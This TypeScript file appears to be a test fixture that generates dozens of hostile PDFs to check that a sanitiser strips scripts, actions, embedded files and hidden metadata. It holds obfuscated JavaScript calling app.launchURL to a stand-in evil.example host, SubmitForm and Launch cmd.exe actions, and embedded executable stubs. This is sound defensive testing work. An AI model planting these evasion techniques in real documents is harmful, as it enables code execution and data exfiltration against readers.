/** Every trick of a PDF that the tools of Debian know, one function each. */
import { deflateSync } from 'node:zlib'
import { picture, SECRET_PLACE } from './sample-files.ts'
import { writeZip } from './zip.ts'

export const SHOWN = 'What happened'
/** What must not get through: the name of the sender, or of a place on the net. */
const TRACE = 'Trace-4711'
const EVIL = `https://evil.example/${TRACE}`

interface HostilePdf {
  readonly title: string
  make(): Buffer | Promise<Buffer>
}

interface Parts {
  readonly catalog?: string
  readonly page?: string
  readonly resources?: string
  readonly drawing?: string
  /** Further objects, from number 10. */
  readonly more?: string
  readonly trailer?: string
}

const stream = (number: number, keys: string, content: string | Buffer): string => {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content
  return `${number} 0 obj\n<< ${keys} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj\n`
}
const object = (number: number, body: string): string => `${number} 0 obj\n${body}\nendobj\n`

const bodyOf = ({ catalog = '', page = '', resources = '', drawing = '', more = '' }: Parts) =>
  `%PDF-1.7\n${object(1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`)}${object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>')}${object(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> ${resources} >> ${page} >>`)}${object(4, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>')}${stream(5, '', `BT /F1 20 Tf 30 100 Td (${SHOWN}) Tj ET\n${drawing}`)}${more}`

/** A cross-reference of the objects from `from` on. */
function referenced(text: string, trailer: string, from = 0): string {
  const rows = [...text.matchAll(/^(\d+) 0 obj$/gm)]
    .filter(({ index }) => index >= from)
    .map(({ 1: number, index }) => `${number} 1\n${String(index).padStart(10, '0')} 00000 n \n`)
  return `${text}xref\n0 1\n0000000000 65535 f \n${rows.join('')}trailer\n<< /Size 60 /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`
}
const made = (parts: Parts): Buffer =>
  Buffer.from(referenced(bodyOf(parts), parts.trailer ?? ''), 'latin1')

/** A newer revision after a file. */
function revised(before: string, objects: string): Buffer {
  const previous = before.lastIndexOf('xref\n0 1')
  return Buffer.from(referenced(before + objects, `/Prev ${previous}`, before.length), 'latin1')
}

/** The table is a stream, and the objects from 10 on are in a stream as well. */
function packed(parts: Parts, inside: Readonly<Record<number, string>>): Buffer {
  const numbers = Object.keys(inside).map(Number)
  let [heads, bodies] = ['', '']
  for (const number of numbers) {
    heads += `${number} ${bodies.length} `
    bodies += `${inside[number]} `
  }
  const pack = deflateSync(Buffer.from(heads + bodies, 'latin1'))
  const text =
    bodyOf(parts) +
    stream(
      8,
      `/Type /ObjStm /N ${numbers.length} /First ${heads.length} /Filter /FlateDecode`,
      pack,
    )
  const rows: number[][] = Array.from({ length: 60 }, () => [0, 0, 0, 0])
  for (const { 1: number, index } of text.matchAll(/^(\d+) 0 obj$/gm))
    rows[Number(number)] = [1, index >> 8, index & 255, 0]
  for (const [index, number] of numbers.entries()) rows[number] = [2, 0, 8, index]
  rows[9] = [1, text.length >> 8, text.length & 255, 0]
  const table = Buffer.from(rows.flat())
  return Buffer.concat([
    Buffer.from(text, 'latin1'),
    Buffer.from(
      `9 0 obj\n<< /Type /XRef /Size 60 /W [1 2 1] /Root 1 0 R ${parts.trailer ?? ''} /Length ${table.length} >>\nstream\n`,
      'latin1',
    ),
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${text.length}\n%%EOF\n`),
  ])
}

const SCRIPT = `<< /S /JavaScript /JS (app.launchURL\\('${EVIL}'\\)) >>`
const PAGE_ANNOTATION = (body: string): Parts => ({
  page: '/Annots [10 0 R]',
  more: object(10, `<< /Type /Annot /Rect [10 10 50 50] ${body} >>`),
})
const opening = (action: string, more = ''): Parts => ({ catalog: `/OpenAction ${action}`, more })
const action = (kind: string, more: string): Parts => opening(`<< /S /${kind} ${more} >>`)
const PICTURE_KEYS =
  '/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray'
const drawn = (keys: string, more = ''): Parts => ({
  resources: '/XObject << /X1 10 0 R >>',
  drawing: 'q 20 0 0 20 5 5 cm /X1 Do Q',
  more: stream(10, `${PICTURE_KEYS} ${keys}`, 'A') + more,
})
const FILE_SPEC = `<< /Type /Filespec /F (${TRACE}.exe) /UF (${TRACE}.exe) /EF << /F 11 0 R >> >>`
const EMBEDDED = stream(11, '/Type /EmbeddedFile', 'MZ')
const XMP = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>${TRACE}</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`

async function withPhoto(): Promise<Buffer> {
  const photo = await picture(32, 32)
    .jpeg()
    .withExif({ IFD0: { Copyright: TRACE, Make: SECRET_PLACE } })
    .toBuffer()
  const keys = PICTURE_KEYS.replace('/Width 1 /Height 1', '/Width 32 /Height 32').replace(
    'DeviceGray',
    'DeviceRGB',
  )
  const parts = {
    resources: '/XObject << /X1 10 0 R >>',
    drawing: 'q 50 0 0 50 5 5 cm /X1 Do Q',
    more: `10 0 obj\n<< ${keys} /Filter /DCTDecode /Length ${photo.length} >>\nstream\n${photo.toString('latin1')}\nendstream\nendobj\n`,
  }
  return made(parts)
}
const box = (type: string, content: string): string => {
  const head = Buffer.alloc(4)
  head.writeUInt32BE(content.length + 8)
  return head.toString('latin1') + type + content
}
/** A picture of JPEG 2000 that holds words beside the picture. */
const withWordsInJpeg2000 = (): Buffer => {
  const content = `${box('jP  ', '\r\n\x87\n')}${box('ftyp', 'jp2 \0\0\0\0jp2 ')}${box('xml ', TRACE)}${box('jp2c', `\xff\x4f\xff\x64\0\x0e\0\x01${TRACE}\xff\xd9`)}`
  return made({
    more: `10 0 obj\n<< ${PICTURE_KEYS} /Filter /JPXDecode /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`,
    resources: '/XObject << /X1 10 0 R >>',
  })
}
const trailing = (): Buffer => {
  const content = Buffer.concat([deflateSync(Buffer.from('A')), Buffer.from(TRACE)]).toString(
    'latin1',
  )
  return made({
    resources: '/XObject << /X1 10 0 R >>',
    more: `10 0 obj\n<< ${PICTURE_KEYS} /Filter /FlateDecode /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`,
  })
}
/** A section that only newer readers follow, with another catalogue. */
function hybrid(): Buffer {
  const text = bodyOf({
    catalog: '/AcroForm 10 0 R',
    more: object(11, `<< /Fields [] /XFA (${TRACE}) >>`),
  })
  const rows = [...text.matchAll(/^(\d+) 0 obj$/gm)].map(
    ({ 1: number, index }) => `${number} 1\n${String(index).padStart(10, '0')} 00000 n \n`,
  )
  const at = text.indexOf('11 0 obj')
  const table = Buffer.from([1, at >> 8, at & 255, 0])
  const section = `12 0 obj\n<< /Type /XRef /Size 60 /Index [10 1] /W [1 2 1] /Length 4 >>\nstream\n${table.toString('latin1')}\nendstream\nendobj\n`
  // The object is named 10 in the hidden section, and stands in the file under this number.
  const renamed = text.replace('11 0 obj', '10 0 obj')
  return Buffer.from(
    `${renamed}${section}xref\n0 1\n0000000000 65535 f \n${rows.filter((row) => !row.startsWith('11 ')).join('')}trailer\n<< /Size 60 /Root 1 0 R /XRefStm ${renamed.length} >>\nstartxref\n${renamed.length + section.length}\n%%EOF\n`,
    'latin1',
  )
}

type Row = readonly [title: string, make: HostilePdf['make']]

const SCRIPTS: readonly Row[] = [
  ['a script at opening', () => made(opening(SCRIPT))],
  [
    'a script under escaped names',
    () =>
      made({
        catalog: `/N#61mes << /J#61vaScript << /Names [(a) ${SCRIPT.replace('/JavaScript', '/#4aavaScr#69pt').replace('/JS', '/#4a#53')}] >> >>`,
      }),
  ],
  [
    'an escaped name of the action itself',
    () => made({ catalog: `/Open#41ction ${SCRIPT.replace('/S ', '/#53 ')}` }),
  ],
  [
    'a comment between a key and its value',
    () => made(opening(SCRIPT.replace('/S /JavaScript', '/S%x\n/JavaScript'))),
  ],
  ['a script in a stream of objects', () => packed(opening('10 0 R'), { 10: SCRIPT })],
  [
    'a script in a stream of its own, in hexadecimal',
    () =>
      made(
        opening(
          '<< /S /JavaScript /JS 10 0 R >>',
          stream(
            10,
            '/Filter /ASCIIHexDecode',
            Buffer.from(`app.launchURL('${EVIL}')`).toString('hex'),
          ),
        ),
      ),
  ],
  [
    'a script of the whole document',
    () => made({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  ],
  ['a script when a page is opened', () => made({ page: `/AA << /O ${SCRIPT} >>` })],
  ['a script when the document is closed', () => made({ catalog: `/AA << /WC ${SCRIPT} >>` })],
  ['a script on a link', () => made(PAGE_ANNOTATION(`/Subtype /Link /A ${SCRIPT}`))],
  [
    'a script of a form field',
    () =>
      made({
        ...PAGE_ANNOTATION(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${SCRIPT} >>`),
        catalog: '/AcroForm << /Fields [10 0 R] >>',
      }),
  ],
  [
    'a script as the second of two actions',
    () => made(opening(`<< /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>`)),
  ],
  [
    'a script in a newer revision',
    () =>
      revised(
        made({}).toString('latin1'),
        object(1, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>`),
      ),
  ],
  [
    'a script of a bookmark',
    () =>
      made({
        catalog: '/Outlines 10 0 R',
        more:
          object(10, '<< /First 11 0 R /Last 11 0 R /Count 1 >>') +
          object(11, `<< /Title (a) /Parent 10 0 R /A ${SCRIPT} >>`),
      }),
  ],
  ['a section for newer readers only', hybrid],
]

const ACTIONS: readonly Row[] = [
  ['a program to start', () => made(action('Launch', '/F (cmd.exe)'))],
  [
    'a link to a place on the net',
    () => made(PAGE_ANNOTATION(`/Subtype /Link /A << /S /URI /URI (${EVIL}) >>`)),
  ],
  ['a place on the net that is opened at once', () => made(action('URI', `/URI (${EVIL})`))],
  ['a form that is sent', () => made(action('SubmitForm', `/F (${EVIL})`))],
  ['data from elsewhere', () => made(action('ImportData', `/F (${EVIL})`))],
  ['another file that is opened', () => made(action('GoToR', `/F (${EVIL}) /D [0 /Fit]`))],
  ['a file inside that is opened', () => made(action('GoToE', `/T << /R /C /N (${TRACE}) >>`))],
  ['a command of the reader', () => made(action('Named', '/N /Print'))],
  ['an action that hides', () => made(action('Hide', `/T (${TRACE})`))],
  ['an action on layers', () => made(action('SetOCGState', '/State [/ON 10 0 R]'))],
  ['the address that links start from', () => made({ catalog: `/URI << /Base (${EVIL}) >>` })],
]

const INSIDE: readonly Row[] = [
  [
    'a file inside',
    () =>
      made({
        catalog: `/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>`,
        more: object(10, FILE_SPEC) + EMBEDDED,
      }),
  ],
  [
    'a file on a note',
    () =>
      made({
        page: '/Annots [10 0 R]',
        more:
          object(
            10,
            `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${FILE_SPEC} >>`,
          ) + EMBEDDED,
      }),
  ],
  [
    'a file that belongs to the document',
    () =>
      made({
        catalog: '/AF [10 0 R]',
        more:
          object(10, FILE_SPEC.replace('/Filespec', '/Filespec /AFRelationship /Data')) + EMBEDDED,
      }),
  ],
  ['a collection of files', () => made({ catalog: `/Collection << /D (${TRACE}) >>` })],
  ['a film', () => made(PAGE_ANNOTATION(`/Subtype /Movie /Movie << /F (${EVIL}) >>`))],
  [
    'a sound',
    () =>
      made({
        ...PAGE_ANNOTATION('/Subtype /Sound /Sound 11 0 R'),
        more:
          object(10, '<< /Type /Annot /Rect [0 0 9 9] /Subtype /Sound /Sound 11 0 R >>') +
          stream(11, '/Type /Sound /R 8000', TRACE),
      }),
  ],
  [
    'a player',
    () =>
      made(
        PAGE_ANNOTATION(
          `/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /N (${TRACE}) >> >>`,
        ),
      ),
  ],
  ['Flash', () => made(PAGE_ANNOTATION('/Subtype /RichMedia /RichMediaContent << >>'))],
  [
    'a model in three dimensions with a script',
    () =>
      made({
        page: '/Annots [10 0 R]',
        more:
          object(10, '<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 11 0 R >>') +
          stream(11, '/Type /3D /Subtype /U3D /OnInstantiate 12 0 R', 'U3D') +
          stream(12, '', `launch(${TRACE})`),
      }),
  ],
  [
    'a form of XFA',
    () =>
      made({
        catalog: `/AcroForm << /Fields [] /XFA [(template) 10 0 R] >>`,
        more: stream(10, '', `<template>${TRACE}</template>`),
      }),
  ],
  [
    'a form with a name in a field',
    () =>
      made({
        ...PAGE_ANNOTATION(`/Subtype /Widget /FT /Tx /T (a) /V (${TRACE})`),
        catalog: '/AcroForm << /Fields [10 0 R] >>',
      }),
  ],
  [
    'a signature with a name',
    () =>
      made({
        ...PAGE_ANNOTATION(
          `/Subtype /Widget /FT /Sig /T (a) /V << /Type /Sig /Name (${TRACE}) /Filter /Adobe.PPKLite >>`,
        ),
        catalog: '/AcroForm << /Fields [10 0 R] /SigFlags 3 >> /Perms << /DocMDP 10 0 R >>',
      }),
  ],
  [
    'a note with the name of its writer',
    () => made(PAGE_ANNOTATION(`/Subtype /Text /T (${TRACE}) /Contents (a)`)),
  ],
  [
    'a stamp that looks different when it is clicked',
    () =>
      made({
        page: '/Annots [10 0 R]',
        more:
          object(
            10,
            '<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 11 0 R /D 11 0 R >> >>',
          ) +
          stream(
            11,
            `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /PieceInfo << /${TRACE} 1 >>`,
            'q Q',
          ),
      }),
  ],
]

const NAMES: readonly Row[] = [
  [
    'the author in the information',
    () => made({ trailer: '/Info 10 0 R', more: object(10, `<< /Author (${TRACE}) >>`) }),
  ],
  [
    'the author in a stream of objects',
    () => packed({ trailer: '/Info 10 0 R' }, { 10: `<< /Author (${TRACE}) >>` }),
  ],
  [
    'the author in an older revision',
    () =>
      revised(
        made({ trailer: '/Info 10 0 R', more: object(10, `<< /Author (${TRACE}) >>`) }).toString(
          'latin1',
        ),
        object(10, '<< >>'),
      ),
  ],
  [
    'XMP of the document',
    () =>
      made({ catalog: '/Metadata 10 0 R', more: stream(10, '/Type /Metadata /Subtype /XML', XMP) }),
  ],
  [
    'XMP of a page',
    () =>
      made({ page: '/Metadata 10 0 R', more: stream(10, '/Type /Metadata /Subtype /XML', XMP) }),
  ],
  [
    'data of another program',
    () => made({ page: `/PieceInfo << /Illustrator << /Private (${TRACE}) >> >>` }),
  ],
  ['a photo with its place', withPhoto],
  ['words in a picture of JPEG 2000', withWordsInJpeg2000],
  ['words behind a packed picture', trailing],
  [
    'a profile that names the screen',
    () =>
      made({
        resources: '/ColorSpace << /C1 [/ICCBased 10 0 R] >>',
        more: stream(10, '/N 3', `desc ${TRACE}`),
      }),
  ],
  [
    'a font with a name of a family',
    () =>
      made({
        resources: '/Font << /F1 4 0 R /F2 10 0 R >>',
        more:
          object(
            10,
            `<< /Type /Font /Subtype /TrueType /BaseFont /Arial /FontDescriptor 11 0 R >>`,
          ) +
          object(
            11,
            `<< /Type /FontDescriptor /FontName /Arial /Flags 32 /FontFamily (${TRACE}) >>`,
          ),
      }),
  ],
  [
    'spoken text of a passage',
    () => made({ drawing: `/Span << /ActualText (${TRACE}) >> BDC EMC` }),
  ],
  [
    'the tree of a tagged document',
    () =>
      made({
        catalog: '/MarkInfo << /Marked true >> /StructTreeRoot 10 0 R',
        more:
          object(10, '<< /Type /StructTreeRoot /K 11 0 R >>') +
          object(
            11,
            `<< /Type /StructElem /S /Figure /P 10 0 R /Alt (${TRACE}) /ActualText (${TRACE}) >>`,
          ),
      }),
  ],
  [
    'a small picture of the page',
    () => made({ page: '/Thumb 10 0 R', more: stream(10, PICTURE_KEYS, 'A') }),
  ],
  ['an object that nothing uses', () => made({ more: object(10, `(${TRACE})`) })],
  ['a comment between objects', () => made({ more: `% ${TRACE}\n` })],
  ['a comment in the commands of a page', () => made({ drawing: `% ${TRACE}\n` })],
  [
    'an identifier of the file',
    () => made({ trailer: `/ID [<${'41'.repeat(16)}> <${'42'.repeat(16)}>]` }),
  ],
  [
    'an archive behind the document',
    async () =>
      Buffer.concat([made({}), writeZip([{ name: `${TRACE}.exe`, bytes: Buffer.from('MZ') }])]),
  ],
]

const DRAWINGS: readonly Row[] = [
  [
    'another picture for the printer',
    () =>
      made(
        drawn(
          `/Alternates [<< /Image 11 0 R /DefaultForPrinting true >>]`,
          stream(11, PICTURE_KEYS, TRACE),
        ),
      ),
  ],
  [
    'a picture of a print server',
    () => made(drawn(`/OPI << /2.0 << /Type /OPI /F (${EVIL}) >> >>`)),
  ],
  [
    'a page of another file',
    () =>
      made({
        resources: '/XObject << /X1 10 0 R >>',
        drawing: '/X1 Do',
        more: stream(
          10,
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${EVIL}) /Page 0 >>`,
          'q Q',
        ),
      }),
  ],
  [
    'a program for printers',
    () =>
      made({
        resources: '/XObject << /X1 10 0 R >>',
        drawing: '/X1 Do',
        more: stream(10, '/Type /XObject /Subtype /PS', `(${TRACE}) run`),
      }),
  ],
  [
    'a drawing with a program for printers',
    () =>
      made({
        resources: '/XObject << /X1 10 0 R >>',
        drawing: '/X1 Do',
        more:
          stream(
            10,
            '/Type /XObject /Subtype /Form /Subtype2 /PS /BBox [0 0 9 9] /PS 11 0 R',
            'q Q',
          ) + stream(11, '', TRACE),
      }),
  ],
  [
    'layers',
    () =>
      made({
        catalog: `/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] >> >>`,
        resources: '/Properties << /P1 10 0 R >>',
        drawing: '/OC /P1 BDC EMC',
        more: object(10, `<< /Type /OCG /Name (${TRACE}) >>`),
      }),
  ],
  [
    'a stream whose bytes are in another file',
    () =>
      made({
        resources: '/XObject << /X1 10 0 R >>',
        drawing: '/X1 Do',
        more: stream(10, `${PICTURE_KEYS} /F (${EVIL}) /FFilter /FlateDecode`, 'A'),
      }),
  ],
  ['a picture in a packing that no reader knows', () => made(drawn('/Filter /constructor'))],
  [
    'a halftone with a program',
    () =>
      made({
        resources: `/ExtGState << /G1 << /HT << /Type /Halftone /HalftoneType 1 /Frequency 60 /Angle 45 /SpotFunction /${TRACE} >> >> >>`,
      }),
  ],
  [
    'a program of a colour that is more than a calculation',
    () =>
      made({
        resources: '/ColorSpace << /C1 [/Separation /Red /DeviceGray 10 0 R] >>',
        more: stream(10, '/FunctionType 4 /Domain [0 1] /Range [0 1]', `{ (${TRACE}) run }`),
      }),
  ],
  [
    'a letter that is a drawing with more',
    () =>
      made({
        resources: '/Font << /F1 4 0 R /F3 10 0 R >>',
        more:
          object(
            10,
            '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [9] /Encoding << /Differences [65 /a] >> /CharProcs << /a 11 0 R >> >>',
          ) +
          stream(11, '/Metadata 12 0 R', `9 0 d0 % ${TRACE}\n`) +
          stream(12, '/Type /Metadata /Subtype /XML', XMP),
      }),
  ],
  ['a letter of an unknown command', () => made({ drawing: `(${TRACE}) Evil1` })],
]

const WHOLE: readonly Row[] = [
  [
    'a locked document',
    () =>
      made({
        trailer: `/ID [<41> <42>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
      }),
  ],
  [
    'pages in a circle',
    () =>
      Buffer.from(made({}).toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1'),
  ],
  [
    'a show of pages',
    () => made({ page: '/Dur 1 /Trans << /S /Fly >> /PresSteps << /NA 10 0 R >>' }),
  ],
  [
    'wishes about the window',
    () => made({ catalog: '/PageMode /FullScreen /ViewerPreferences << /HideToolbar true >>' }),
  ],
  [
    'threads of articles',
    () =>
      made({
        catalog: `/Threads [<< /Type /Thread /I << /Author (${TRACE}) >> >>]`,
        page: '/B [10 0 R]',
      }),
  ],
  [
    'pages that were caught on the net',
    () => made({ catalog: `/SpiderInfo << /V 1.0 /C [<< /U (${EVIL}) >>] >>` }),
  ],
  [
    'needs, extensions and legal notes',
    () =>
      made({
        catalog: `/Requirements [<< /S /EnableJavaScripts >>] /Extensions << /ADBE << /BaseVersion /1.7 >> >> /Legal << /Attestation (${TRACE}) >>`,
      }),
  ],
  ['named places', () => made({ catalog: `/Dests << /${TRACE} [3 0 R /Fit] >>` })],
]

export const HOSTILE_PDFS: readonly HostilePdf[] = [
  ...SCRIPTS,
  ...ACTIONS,
  ...INSIDE,
  ...NAMES,
  ...DRAWINGS,
  ...WHOLE,
].map(([title, make]) => ({ title, make }))
